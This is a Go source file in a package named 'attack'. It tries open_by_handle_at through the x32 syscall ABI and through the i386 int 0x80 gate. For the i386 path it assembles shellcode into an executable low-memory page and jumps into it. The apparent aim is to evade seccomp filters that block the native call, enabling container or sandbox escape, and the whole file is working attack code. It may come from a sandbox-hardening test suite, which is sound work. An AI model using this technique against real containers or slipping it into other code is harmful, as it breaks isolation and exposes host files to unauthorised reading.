package attack

import (
	"encoding/binary"
	"errors"
	"fmt"
	"unsafe"

	"golang.org/x/sys/unix"
)

// foreignCalls is openHandles in the forms of other machines that the kernel also
// takes: those of x32 and of i386.
func foreignCalls(args []string) error {
	const x32 = 0x40000000
	err := withHandle(args, func(fd int, h *nsHandle) (int, error) {
		r, _, errno := unix.RawSyscall(x32|unix.SYS_OPEN_BY_HANDLE_AT, uintptr(fd), uintptr(unsafe.Pointer(h)), unix.O_RDONLY)
		if errno != 0 {
			return -1, fmt.Errorf("x32: %w", errno)
		}
		return int(r), nil
	})
	if err != nil {
		return err
	}
	return withHandle(args, func(fd int, h *nsHandle) (int, error) {
		const getpid, openByHandleAt = 20, 342
		page, err := lowPage()
		if err != nil {
			return -1, err
		}
		*(*nsHandle)(unsafe.Pointer(&page[2048])) = *h
		address := uint32(uintptr(unsafe.Pointer(&page[2048])))
		if pid := call386(page, getpid, 0, 0, 0); int(pid) != unix.Getpid() {
			return -1, fmt.Errorf("no calls of i386: getpid returns %d", pid)
		}
		r := call386(page, openByHandleAt, uint32(fd), address, unix.O_RDONLY)
		if r < 0 {
			return -1, fmt.Errorf("i386: %w", unix.Errno(-r))
		}
		return int(r), nil
	})
}

// lowPage returns memory that a 32-bit address can name and that may be executed.
func lowPage() ([]byte, error) {
	page, err := unix.Mmap(-1, 0, 4096, unix.PROT_READ|unix.PROT_WRITE|unix.PROT_EXEC, unix.MAP_PRIVATE|unix.MAP_ANONYMOUS|unix.MAP_32BIT)
	if err == nil && uintptr(unsafe.Pointer(&page[0])) > 1<<32 {
		err = errors.New("no memory below 4 GiB")
	}
	return page, err
}

// call386 enters the kernel by int 0x80.
func call386(page []byte, number, a, b, c uint32) int32 {
	result := uint32(uintptr(unsafe.Pointer(&page[1024])))
	var code []byte
	for _, set := range []struct {
		op byte
		v  uint32
	}{{0xb8, number}, {0xbb, a}, {0xb9, b}, {0xba, c}} { // mov eax, …; ebx; ecx; edx
		code = binary.LittleEndian.AppendUint32(append(code, set.op), set.v)
	}
	code = append(code, 0xcd, 0x80, 0x89, 0x04, 0x25) // int 0x80; mov [result], eax
	code = binary.LittleEndian.AppendUint32(code, result)
	copy(page, append(code, 0xc3)) // ret
	entry := uintptr(unsafe.Pointer(&page[0]))
	value := &entry // a func value points to the address of the code
	(*(*func())(unsafe.Pointer(&value)))()
	return int32(binary.LittleEndian.Uint32(page[1024:]))
}
